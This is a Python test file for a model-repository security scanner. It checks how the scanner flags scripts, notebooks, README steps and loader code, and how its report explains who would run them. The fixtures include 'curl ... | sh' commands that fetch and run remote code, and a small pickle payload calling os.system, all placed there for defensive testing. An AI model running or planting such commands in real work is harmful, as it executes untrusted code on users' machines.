"""Files that no loader of a model runs by itself are marked, and the answer to load says who runs them."""

from __future__ import annotations

import json
from pathlib import Path

from support.cases import check_each

import modelaudit
from modelaudit.model.report import AuditReport
from modelaudit.reports.officer_steps import list_steps
from modelaudit.reports.questions import list_questions

_FETCH = "#!/bin/sh\ncurl -s https://acme.example/setup.sh | sh\n"
_CONFIG = json.dumps({"model_type": "bert", "architectures": ["BertModel"]})
_NOTEBOOK = json.dumps(
    {
        "cells": [{"cell_type": "code", "source": ["!curl -s https://acme.example/a.sh | sh\n"], "metadata": {}}],
        "metadata": {},
        "nbformat": 4,
        "nbformat_minor": 5,
    }
)


def scan(folder: Path, files: dict[str, str]) -> AuditReport:
    """Write files into a new folder and scan it."""
    folder = folder / str(len(list(folder.iterdir())))
    for path, text in files.items():
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_text(text)
    return modelaudit.scan(folder, second_opinion=False, offline=True)


@check_each(
    "path, text",
    [
        ("deploy.sh", _FETCH),
        ("deploy.SH", _FETCH),
        ("eval.ipynb", _NOTEBOOK),
        ("README.md", "# A\n\nFirst run:\n\n```sh\ncurl -s https://acme.example/setup.sh | sh\n```\n"),
        ("demo.py", "import os\nos.system('curl -s https://acme.example/a.sh | sh')\n"),
    ],
)
def test_answer_says_that_loading_alone_does_not_run_a_file(tmp_path: Path, path: str, text: str) -> None:
    guide = {} if path == "README.md" else {"README.md": f"# A\n\n```sh\npython {path}\n```\n"}
    report = scan(tmp_path, {"config.json": _CONFIG, **guide, path: text})
    assert [each.path for each in report.coverage.artifacts if each.is_by_hand and each.path == path] == [path]
    if report.decision.load.verdict != "fail":
        return
    sentence = f"Loading alone does not run {path}; a person who follows the repository does."
    assert sentence in report.decision.load.reason
    step = list_steps(report)[0].person
    assert step.startswith(f"Do not run {path}, and do not load this model from a copy that holds it.")
    assert "loaded it" not in step
    assert not any("have loaded" in each for each in list_questions(report))


def test_several_files_are_counted(tmp_path: Path) -> None:
    report = scan(tmp_path, {"config.json": _CONFIG, "a.sh": _FETCH, "b.sh": _FETCH})
    assert "Loading alone runs none of these 2 files; a person" in report.decision.load.reason
    assert "Treat machines that ran them as compromised." in list_steps(report)[0].person


@check_each(
    "other",
    [
        {"modeling_a.py": "import subprocess\nsubprocess.run(['sh', 'deploy.sh'])\n"},
        {"modeling_a.py": "import subprocess\nsubprocess.run('sh *.sh', shell=True)\n"},
        {"model.pkl": "cos\nsystem\n(S'true'\ntR."},
    ],
)
def test_answer_says_nothing_where_a_loaded_file_fails_or_may_run_the_file(
    tmp_path: Path, other: dict[str, str]
) -> None:
    auto_map = json.dumps({"model_type": "a", "auto_map": {"AutoModel": "modeling_a.Model"}})
    report = scan(tmp_path, {"config.json": auto_map, "deploy.sh": _FETCH, **other})
    assert report.decision.load.verdict == "fail"
    assert "Loading alone" not in report.decision.load.reason
    assert list_steps(report)[0].person.startswith("Do not load this model.")


def test_file_that_a_loaded_file_runs_is_not_marked(tmp_path: Path) -> None:
    auto_map = json.dumps({"model_type": "a", "auto_map": {"AutoModel": "modeling_a.Model"}})
    for command in ("['sh', 'deploy.sh']", "'sh *.sh', shell=True"):
        code = f"import subprocess\nsubprocess.run({command})\n"
        report = scan(tmp_path, {"config.json": auto_map, "deploy.sh": _FETCH, "modeling_a.py": code})
        assert not any(each.is_by_hand for each in report.coverage.artifacts if each.path == "deploy.sh")


def test_own_code_is_read_before_it_is_trusted(tmp_path: Path) -> None:
    auto_map = json.dumps({"model_type": "a", "auto_map": {"AutoModel": "modeling_a.Model"}})
    code = "from transformers import PreTrainedModel\n\n\nclass Model(PreTrainedModel):\n    pass\n"
    report = scan(tmp_path, {"sub/config.json": auto_map, "sub/modeling_a.py": code})
    assert report.decision.load.verdict == "pass"
    step = "Read sub/modeling_a.py before anyone loads the model with trust_remote_code, and pin the commit."
    assert step in [each.person for each in list_steps(report)]
    plain = scan(tmp_path, {"config.json": _CONFIG})
    assert not any("trust_remote_code" in each.person for each in list_steps(plain))
